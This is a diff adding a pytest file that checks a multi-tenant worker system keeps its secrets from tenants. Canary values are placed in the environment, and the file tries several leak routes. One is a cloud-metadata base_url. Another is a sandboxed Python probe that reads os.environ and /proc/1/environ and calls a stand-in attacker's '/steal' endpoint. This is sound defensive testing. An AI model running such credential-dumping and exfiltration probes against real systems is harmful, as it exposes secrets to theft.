@@ -1,0 +1,149 @@
+"""A worker's secrets go only where the operator sent them.
+
+The worker runs with canary values in its environment: the key of the provider the operator
+declared, and secrets it holds for other reasons (an unrelated token, cloud keys). A tenant
+with an ordinary key then drives the doors that make a worker send something out on its
+behalf: a profile naming its own endpoint and a variable (refused), a profile stored that way
+before providers existed (refused at submission), a run on the operator's provider (its key
+goes to that provider only), and a step that reads its environment and calls out. No canary
+may reach any address but the one the operator declared for it.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from dataclasses import dataclass
+from typing import Any
+
+import httpx
+import pytest
+from psycopg.types.json import Jsonb
+from test_e2b_tenancy import _serving as serving
+
+from onebox.api import create_app
+from onebox.config import ProviderSettings, Settings
+from onebox.runtime.api_keys import create_key
+from onebox.runtime.service import Runtime
+from onebox.runtime.worker import Worker
+from onebox.store.db import Database
+from onebox.testing import ScriptedOpenAIServer, ServerReply
+
+CANARIES = {"SECRET_TOKEN": "canary-secret-5d1e", "AWS_SECRET_ACCESS_KEY": "canary-aws-77a0",
+            "OPENAI_API_KEY": "canary-openai-91c3"}
+OPERATOR_KEY = ("OP_PROVIDER_KEY", "canary-operator-3b2f")
+INTENT = {"goal": "say hi", "entities": [], "capabilities": ["python"], "formats": [],
+          "risks": [], "fallbacks": []}
+
+
+@dataclass
+class Setup:
+    url: str
+    key: str
+    db: Database
+    attacker: ScriptedOpenAIServer
+    operator: ScriptedOpenAIServer
+
+    def client(self) -> httpx.AsyncClient:
+        return httpx.AsyncClient(base_url=self.url, timeout=60,
+                                 headers={"Authorization": f"Bearer {self.key}"})
+
+
+@pytest.fixture
+async def setup(db: Database, settings: Settings,
+                monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Setup]:
+    from onebox.sandbox.registry import get_backend
+
+    for name, value in (*CANARIES.items(), OPERATOR_KEY):
+        monkeypatch.setenv(name, value)
+    settings.runtime.poll_s = 0.1
+    with ScriptedOpenAIServer() as attacker, ScriptedOpenAIServer() as operator:
+        settings.providers = [ProviderSettings(name="op", base_url=operator.base_url,
+                                               api_key_env=OPERATOR_KEY[0], models=["op-model"])]
+        backend = get_backend(settings)
+        rt = Runtime(settings, db, backend)
+        key = (await create_key(db, tenant_id="evil", name="evil-canary"))[0]
+        stop = asyncio.Event()
+        runner = asyncio.create_task(
+            Worker(db, backend, settings, objects=rt.objects).serve(stop, drain_s=2))
+        try:
+            async with serving(create_app(settings, runtime=rt)) as url:
+                yield Setup(url, key, db, attacker, operator)
+        finally:
+            stop.set()
+            await runner
+            await backend.close()
+            await rt.objects.close()
+
+
+def _seen(server: ScriptedOpenAIServer) -> str:
+    return json.dumps({"headers": server.headers, "bodies": server.requests})
+
+
+async def _ended(c: httpx.AsyncClient, run_id: str) -> dict[str, Any]:
+    for _ in range(600):
+        run: dict[str, Any] = (await c.get(f"/v1/runs/{run_id}")).json()["run"]
+        if run["status"] in ("SUCCEEDED", "FAILED", "CANCELLED", "DEAD"):
+            return run
+        await asyncio.sleep(0.1)
+    raise AssertionError(f"run {run_id} did not end: {run['status']}")
+
+
+async def test_a_tenant_cannot_point_a_worker_or_its_keys_anywhere(setup: Setup) -> None:
+    leak = {"model": "m", "base_url": setup.attacker.base_url, "api_key_env": "SECRET_TOKEN"}
+    async with setup.client() as c:
+        refused = await c.put("/v1/profiles/leak", json=leak)
+        metadata = await c.put("/v1/profiles/meta", json={
+            "model": "m", "base_url": "http://169.254.169.254/latest/v1"})
+        for _ in range(3):  # a worker given time to act on anything stored
+            await asyncio.sleep(0.2)
+        listed = (await c.get("/v1/profiles")).json()["profiles"]
+    assert refused.status_code == 422 and refused.json()["field"] == "base_url", refused.text
+    assert "onebox provider add" in refused.json()["message"]
+    assert metadata.status_code == 422 and listed == []
+    assert setup.attacker.requests == []
+
+
+async def test_a_profile_stored_with_its_own_endpoint_is_refused_at_submission(
+        setup: Setup) -> None:
+    # as a profile written before providers existed: straight into the table
+    async with setup.db.connection() as conn:
+        await conn.execute(
+            "INSERT INTO onebox.profiles (tenant_id, name, spec) VALUES (%s, %s, %s)",
+            ("evil", "old", Jsonb({"name": "old", "model": "m", "api_key_env": "SECRET_TOKEN",
+                                   "base_url": setup.attacker.base_url})))
+    async with setup.client() as c:
+        r = await c.post("/v1/runs", json={"task": "hello", "profile": "old"})
+        await asyncio.sleep(1.0)  # a worker would have called by now
+    assert r.status_code == 422 and r.json()["field"] == "profile", r.text
+    assert "no declared provider matches" in r.json()["message"]
+    assert setup.attacker.requests == []
+
+
+async def test_the_operators_key_goes_to_the_operators_provider_only(setup: Setup) -> None:
+    probe = ("import os, urllib.request\n"
+             "print(sorted(os.environ.items()))\n"
+             "print(open('/proc/1/environ', 'rb').read())\n"
+             "try:\n"
+             f"    urllib.request.urlopen({setup.attacker.base_url!r} + '/steal', timeout=3)\n"
+             "except Exception as exc:\n"
+             "    print('refused', type(exc).__name__)\n")
+    plan = {"name": "probe", "steps": [{"id": "probe", "tool": "python", "code": probe}]}
+    setup.operator.add(ServerReply.json(INTENT), ServerReply.json(plan))
+    async with setup.client() as c:
+        saved = await c.put("/v1/profiles/ours", json={"provider": "op", "model": "op-model"})
+        assert saved.status_code == 200, saved.text
+        r = await c.post("/v1/runs", json={"task": "say hi", "profile": "ours"})
+        assert r.status_code == 201, r.text
+        run = await _ended(c, r.json()["run_id"])
+        logs = (await c.get(f"/v1/runs/{run['id']}")).text
+    assert run["status"] == "SUCCEEDED", run.get("error")
+    assert "refused" in logs, "the probe ran and tried to call out"
+    assert setup.operator.headers, "the run's model calls reached the declared provider"
+    assert {h["authorization"] for h in setup.operator.headers} == {f"Bearer {OPERATOR_KEY[1]}"}
+    assert setup.attacker.requests == []
+    for value in CANARIES.values():
+        assert value not in _seen(setup.operator), "an unrelated secret reached the provider"
+    for value in (*CANARIES.values(), OPERATOR_KEY[1]):
+        assert value not in logs, "a worker secret reached the sandbox"
